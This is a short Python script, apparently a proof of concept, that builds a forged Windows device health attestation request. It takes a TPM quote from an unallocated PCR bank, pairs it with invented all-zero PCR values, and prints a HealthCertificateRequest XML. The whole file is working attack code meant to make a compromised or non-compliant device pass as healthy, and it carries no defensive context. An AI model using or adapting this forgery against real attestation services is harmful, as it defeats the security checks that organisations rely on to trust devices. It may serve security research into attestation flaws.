#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""A request for a health certificate by a device that lies with its TPM's help: nothing.py PUBLIC QUOTE SIGNATURE LOG. The first is the
TPM2B_PUBLIC of an attestation key, the next two are what tpm2_quote wrote, of a bank that is not allocated; the PCR values are
invented."""
import base64
import struct
import sys


def read(name):
    with open(name, 'rb') as file:
        return file.read()


public, quote, signature, log = map(read, sys.argv[1:])
pcrs = bytes(24 * 20)
claims = struct.pack('<6I', 1, 0x0B, len(quote), len(signature), len(pcrs), len(log)) + quote + signature + pcrs + log
key = b'RSA1' + struct.pack('<5I', 2048, 3, 256, 0, 0) + b'\1\0\1' + public[-256:]
print('<HealthCertificateRequest ProtocolVersion="3" xmlns="http://schemas.microsoft.com/windows/security/healthcertificate/request/v3">'
      f'<Claims>{base64.b64encode(claims).decode()}</Claims><AIKPublic>{base64.b64encode(key).decode()}</AIKPublic>'
      '</HealthCertificateRequest>')
